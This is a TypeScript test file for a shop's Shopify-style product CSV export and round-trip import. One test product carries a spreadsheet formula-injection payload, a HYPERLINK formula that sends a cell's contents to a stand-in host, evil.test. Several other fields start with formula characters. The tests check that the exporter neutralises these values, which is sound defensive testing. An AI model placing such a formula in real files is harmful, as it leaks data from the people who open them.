import { buffer } from "node:stream/consumers";
import { describe, expect, it } from "vitest";
import { csvText } from "../../csv/csv-writer.ts";
import {
  demoTransferProducts,
  EMPTY_SHOP,
  lookupOf,
  syntheticTransferProduct,
} from "../../testing/transfer-products.ts";
import { checkProductCsv } from "./product-csv-check.ts";
import { productCsvRows, productCsvStream } from "./product-csv-export.ts";
import { readProductCsv } from "./product-csv-file.ts";
import { PRODUCT_CSV_HEADER } from "./product-csv-layout.ts";
import type { TransferProduct } from "./product-transfer.ts";

const SHOPIFY_COLUMNS = [
  "Handle",
  "Title",
  "Body (HTML)",
  "Vendor",
  "Type",
  "Tags",
  "Published",
  "Option1 Name",
  "Option1 Value",
  "Variant SKU",
  "Variant Inventory Qty",
  "Variant Price",
  "Variant Compare At Price",
  "Variant Barcode",
  "Image Src",
  "Image Position",
  "Status",
];

async function exported(products: readonly TransferProduct[]): Promise<string> {
  return (await buffer(productCsvStream(products))).toString("utf8");
}

/** Products written out, read back and checked against a shop that has them. */
async function roundTrip(products: readonly TransferProduct[], shop = lookupOf(products)) {
  return checkProductCsv(await readProductCsv([await exported(products)]), shop);
}

/** A product with everything a spreadsheet, a browser form or an attacker could put in its text. */
function hostileProduct(): TransferProduct {
  const base = syntheticTransferProduct(1007);
  return {
    ...base,
    title: '=HYPERLINK("http://evil.test/?leak="&A1,"Saree") "Rani", 5" heels',
    description: 'Line one, with a comma\r\nline two & <b>not bold</b>\ttabbed  "quoted"',
    description1: "साड़ी, Zoë’s boutique\n\n+91 98765 43210",
    category: "Ethnic",
    fabric: "-Silk",
    collections: ["isEthnic", "isMore"],
    nonReturnable: true,
    sizes: [
      { size: "M", sku: "KSR-1007-M", barcode: "+ABC-1", stock: 0, reorderPoint: 0 },
      { size: "UK 5", sku: "KSR-1007-UK5", barcode: "@WH 17", stock: 1_000_000, reorderPoint: null },
    ],
  };
}

describe("the product file the shop writes", () => {
  it("is Shopify's layout with the shop's columns at the end", () => {
    expect(PRODUCT_CSV_HEADER.slice(0, 17)).toEqual(SHOPIFY_COLUMNS);
    expect(PRODUCT_CSV_HEADER.slice(17)).toEqual([
      "Category",
      "Fabric",
      "HSN",
      "Collections",
      "Returnable",
      "Variant Reorder Point",
      "Title (Hindi)",
      "Description (Hindi)",
    ]);
  });

  it("writes one row per size, the product's columns on its first row only, a picture a row", () => {
    const product = syntheticTransferProduct(12);
    const rows = productCsvRows(product).map((row) =>
      Object.fromEntries(PRODUCT_CSV_HEADER.map((name, index) => [name, row[index]])),
    );
    expect(rows).toHaveLength(4);
    expect(rows[0]).toEqual({
      Handle: "festive-printed-kurta-set-12-12",
      Title: "Festive Printed Kurta Set 12",
      "Body (HTML)":
        "<p>Printed cotton kurta with straight pants and a mulmul dupatta.</p><p>Breathable for long summer days, with side slits and pockets.</p>",
      Vendor: "Kesar",
      Type: "Kurta Set",
      Tags: null,
      Published: "TRUE",
      "Option1 Name": "Size",
      "Option1 Value": "S",
      "Variant SKU": "KSR-12-S",
      "Variant Inventory Qty": 12,
      "Variant Price": "2199.00",
      "Variant Compare At Price": null,
      "Variant Barcode": product.sizes[0]?.barcode,
      "Image Src": product.images[0],
      "Image Position": 1,
      Status: "active",
      Category: "Ethnic",
      Fabric: "Cotton",
      HSN: "6204",
      Collections: "Ethnic",
      Returnable: "TRUE",
      "Variant Reorder Point": 2,
      "Title (Hindi)": "उत्सव प्रिंटेड कुर्ता सेट 12",
      "Description (Hindi)": null,
    });
    expect(rows[1]).toMatchObject({
      Title: null,
      Type: null,
      Collections: null,
      "Option1 Value": "M",
      "Image Position": 2,
    });
    expect(rows[3]).toMatchObject({
      Handle: product.handle,
      "Option1 Value": "XL",
      "Image Src": null,
      "Variant Price": "2199.00",
    });
  });

  it("gives pictures past the last size rows of their own, as Shopify does", () => {
    const product = { ...syntheticTransferProduct(3), sizes: syntheticTransferProduct(3).sizes.slice(0, 1) };
    product.images = ["https://a.example/1.jpg", "https://a.example/2.jpg", "https://a.example/3.jpg"];
    const rows = productCsvRows(product);
    expect(rows).toHaveLength(3);
    expect(rows[2]?.filter((cell) => cell !== null)).toEqual([product.handle, "https://a.example/3.jpg", 3]);
  });

  it("makes a title that looks like a formula text in the file, and reads it back as the title it is", async () => {
    const text = await exported([hostileProduct()]);
    expect(text.startsWith("\uFEFFHandle,Title,")).toBe(true);
    expect(text).toContain(`,"'=HYPERLINK(""http://evil.test/?leak=""&A1,""Saree"") ""Rani"", 5"" heels",`);
    expect(text).toContain(",'-Silk,");
    expect(text).toContain(",'+ABC-1,");
    const plan = await roundTrip([hostileProduct()], EMPTY_SHOP);
    expect(plan.problems).toEqual([]);
    expect(plan.creates[0]?.title).toBe(hostileProduct().title);
  });

  it("streams, the same bytes as written at once", async () => {
    async function* slowly() {
      for (let id = 1; id <= 500; id++) yield syntheticTransferProduct(id);
    }
    const streamed = (await buffer(productCsvStream(slowly()))).toString("utf8");
    const products = Array.from({ length: 500 }, (_, index) => syntheticTransferProduct(index + 1));
    expect(streamed).toBe(csvText([PRODUCT_CSV_HEADER, ...products.flatMap(productCsvRows)]));
  });
});

describe("the round trip: a file the shop wrote, checked against the same shop", () => {
  it("changes nothing in the demo catalogue", async () => {
    const demo = demoTransferProducts();
    const plan = await roundTrip(demo);
    expect(plan.problems).toEqual([]);
    expect(plan.notices).toEqual([]);
    expect(plan.creates).toEqual([]);
    expect(plan.updates).toEqual([]);
    expect(plan.unchanged).toHaveLength(70);
  });

  it("changes nothing in a product with every hostile character", async () => {
    const plan = await roundTrip([hostileProduct()]);
    expect(plan.problems).toEqual([]);
    expect(plan.updates).toEqual([]);
    expect(plan.unchanged).toHaveLength(1);
  });

  it("carries every field: into an empty shop it creates the same products", async () => {
    const products = [...demoTransferProducts().slice(0, 10), hostileProduct()];
    const plan = await roundTrip(products, EMPTY_SHOP);
    expect(plan.problems).toEqual([]);
    const strip = ({ id: _id, ...product }: TransferProduct) => product;
    expect(
      plan.creates.map(({ line: _line, sizes, ...product }) => ({
        ...product,
        sizes: sizes.map(({ line: _at, skuProposed: _proposed, ...size }) => size),
      })),
    ).toEqual(products.map(strip));
  });

  it("shows the one change made in the file", async () => {
    const demo = demoTransferProducts();
    const text = (await exported(demo)).replace(
      `,${demo[4]?.sizes[0]?.sku},${demo[4]?.sizes[0]?.stock},`,
      `,${demo[4]?.sizes[0]?.sku},40,`,
    );
    const plan = checkProductCsv(await readProductCsv([text]), lookupOf(demo));
    expect(plan.updates.map((update) => [update.product.handle, update.changes])).toEqual([
      [demo[4]?.handle, [`Size ${demo[4]?.sizes[0]?.size}: stock ${demo[4]?.sizes[0]?.stock} → 40`]],
    ]);
    expect(plan.unchanged).toHaveLength(69);
  });
});
